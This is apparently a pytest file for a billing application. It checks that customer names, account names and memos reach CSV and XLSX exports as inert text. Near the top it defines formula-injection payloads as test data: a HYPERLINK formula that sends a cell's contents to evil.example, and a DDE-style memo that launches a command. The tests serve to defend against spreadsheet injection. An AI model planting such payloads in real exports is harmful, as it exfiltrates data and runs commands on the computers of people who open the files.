"""Exports are inert (issue 15 item 5): a name that is a spreadsheet formula reaches every CSV and XLSX as text.

A write token creates a customer named like an attack (`=HYPERLINK(...)`), its mining account carries a name that
starts with `@`, and staff type an adjustment memo that starts with `-`. Through every export path (the month's
CSV and XLSX by command, the API's statement CSV/XLSX and month CSVs, the portal's statement CSV, the rewards CSV,
the audit archive) those cells arrive with a leading `'`, XLSX cells are never formulas, and numbers such as the
−123 sats adjustment stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from billing.services.contracts import adjustment_create
from tenants.exports_safety import spreadsheet_safe
from tenants.models import AuditEntry, Customer
from tests.api.conftest import token_make
from tests.billing.factories import account_make, reward_make
from tests.billing.helpers import NOW, close, contract, system_scope
from tests.fixtures.access import login_verified

EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"invoice")'
EVIL_ACCOUNT = "@SUM(1+1)*cmd"
EVIL_MEMO = "-2+3+cmd|' /C calc'!A0"
NOV = date(2025, 11, 1)

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(("value", "expected"), [
    (EVIL, "'" + EVIL), ("+1+1", "'+1+1"), ("-1+2", "'-1+2"), ("-A1", "'-A1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("=5", "'=5"), ("#N/A", "#N/A"),
    ("-5", "-5"), ("-0.00000123", "-0.00000123"), ("+1e3", "+1e3"), ("-.5", "-.5"),  # numbers stay numbers
    ("Carol Mining", "Carol Mining"), ("", ""), ("a=b", "a=b"), (-5, -5), (Decimal("-0.1"), Decimal("-0.1")),
    (None, None),
])
def test_one_rule_for_every_cell(value, expected):
    assert spreadsheet_safe(value) == expected


@pytest.fixture
def evil(world, client):
    """November 2025 closed for a customer a write token named `EVIL`, with an account and a memo to match."""
    token = token_make(world.provider_a, scopes="read,write,billing", name="crm")
    api = client.__class__()
    created = api.post("/api/v1/customers/", {"name": EVIL, "slug": "evil-co"}, content_type="application/json",
                       HTTP_AUTHORIZATION=f"Bearer {token}")
    assert created.status_code == 201, created.content
    customer = Customer.objects.get(provider=world.provider_a, slug="evil-co")
    assert customer.name == EVIL  # the API accepts the name: the exports are what must keep it inert
    scope = system_scope(world.provider_a)
    account = account_make(world.provider_a, customer, name=EVIL_ACCOUNT)
    contract(scope, customer, NOV, revenue_share_bps=2000, machine_count=1, machine_fee_monthly="0.0001")
    for day in (1, 2, 3):
        reward_make(account, date(2025, 11, day), 100_000)
    adjustment_create(scope=scope, customer_id=customer.pk, period=NOV, amount_sats=-123, memo=EVIL_MEMO, now=NOW)
    close(scope, NOV)
    return {"customer": customer, "account": account, "token": token, "api": api}


def _csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _body(response) -> str:
    return (b"".join(response.streaming_content) if response.streaming else response.content).decode()


def _no_formula_anywhere(workbook) -> list:
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    return cells


def test_the_month_csvs_by_command_carry_the_name_as_text(evil, tmp_path):
    summary, detail = tmp_path / "summary.csv", tmp_path / "detail.csv"
    call_command("export_billing", "2025-11", "--provider", "alpha", "--format", "csv", "--output", str(summary))
    call_command("export_billing", "2025-11", "--provider", "alpha", "--format", "csv", "--output", str(detail),
                 "--detail")
    (row,) = [r for r in _csv(summary.read_text()) if "HYPERLINK" in r["customer"]]
    assert row["customer"] == "'" + EVIL
    lines = [r for r in _csv(detail.read_text()) if "HYPERLINK" in r["customer"]]
    assert {r["customer"] for r in lines} == {"'" + EVIL}
    assert {r["account"] for r in lines if r["kind"] == "reward"} == {"'" + EVIL_ACCOUNT}
    (adjustment,) = [r for r in lines if r["kind"] == "adjustment"]
    assert (adjustment["description"], adjustment["amount_btc"]) == ("'" + EVIL_MEMO, "-0.00000123")  # a number


def test_the_month_xlsx_has_no_formula_and_keeps_numbers_numbers(evil, tmp_path):
    target = tmp_path / "month.xlsx"
    call_command("export_billing", "2025-11", "--provider", "alpha", "--format", "xlsx", "--output", str(target),
                 "--detail")
    cells = _no_formula_anywhere(load_workbook(target))
    assert "'" + EVIL in {c.value for c in cells} and EVIL not in {c.value for c in cells}
    detail = list(load_workbook(target)["Detail"].iter_rows(values_only=True))
    header = detail[0]
    (adjustment,) = [r for r in detail if r[header.index("Kind")] == "adjustment"]
    assert adjustment[header.index("Description")] == "'" + EVIL_MEMO
    assert adjustment[header.index("Charged (BTC)")] == pytest.approx(-0.00000123)  # a number cell, not text


def test_the_apis_statement_and_month_downloads_are_inert(evil):
    api, auth = evil["api"], {"HTTP_AUTHORIZATION": f"Bearer {evil['token']}"}
    base = f"/api/v1/customers/{evil['customer'].pk}/statements/2025-11/"
    statement = api.get(base + "csv/", **auth)
    assert statement.status_code == 200
    lines = _csv(_body(statement))
    assert {r["account"] for r in lines if r["kind"] == "reward"} == {"'" + EVIL_ACCOUNT}
    assert [(r["memo"], r["amount_btc"]) for r in lines if r["kind"] == "adjustment"] == \
        [("'" + EVIL_MEMO, "-0.00000123")]
    xlsx = api.get(base + "xlsx/", **auth)
    assert xlsx.status_code == 200
    cells = _no_formula_anywhere(load_workbook(io.BytesIO(xlsx.content)))
    assert {"'" + EVIL, "'" + EVIL_ACCOUNT, "'" + EVIL_MEMO} <= {c.value for c in cells}
    summary = _csv(_body(api.get("/api/v1/billing-months/2025-11/summary-csv/", **auth)))
    assert [r["customer"] for r in summary if "HYPERLINK" in r["customer"]] == ["'" + EVIL]
    detail = _csv(_body(api.get("/api/v1/billing-months/2025-11/detail-csv/", **auth)))
    assert {r["customer"] for r in detail if "HYPERLINK" in r["customer"]} == {"'" + EVIL}
    assert not [r for r in summary + detail if r["customer"].startswith("=")]


def test_the_portals_statement_csv_and_rewards_csv_are_inert(evil, world, client):
    alice = world.alice
    login_verified(client, alice)
    staff = client.get(f"/p/alpha/billing/statements/2025-11/{evil['customer'].slug}/csv/")
    assert staff.status_code == 200, staff.content[:300]
    assert {r["account"] for r in _csv(_body(staff)) if r["kind"] == "reward"} == {"'" + EVIL_ACCOUNT}
    rewards = client.get(f"/c/alpha/{evil['customer'].slug}/rewards.csv")
    assert rewards.status_code == 200
    rows = _csv(_body(rewards))
    assert len(rows) == 3 and {r["account"] for r in rows} == {"'" + EVIL_ACCOUNT}
    assert all(int(r["net_sats"]) == 100_000 for r in rows)  # numbers untouched


def test_the_audit_archive_is_inert(world, tmp_path, settings):
    from tenants.services.retention import RetentionPolicy, audit_archive, audit_archive_path, audit_archive_read

    settings.RETENTION_AUDIT_ARCHIVE_DIR = tmp_path / "archive"
    AuditEntry.objects.create(provider=world.provider_a, actor_kind=AuditEntry.ActorKind.USER, actor_label="alice",
                              action="customer.create", object_type="tenants.customer", object_id="9",
                              object_repr=EVIL, changes={}, created_at=datetime(2025, 10, 3, tzinfo=UTC))
    audit_archive(now=datetime(2026, 12, 15, tzinfo=UTC), policy=RetentionPolicy.from_settings())
    rows = audit_archive_read(audit_archive_path(RetentionPolicy.from_settings(), provider_id=world.provider_a.pk,
                                                 month=date(2025, 10, 1)))
    assert [r["object_repr"] for r in rows] == ["'" + EVIL]

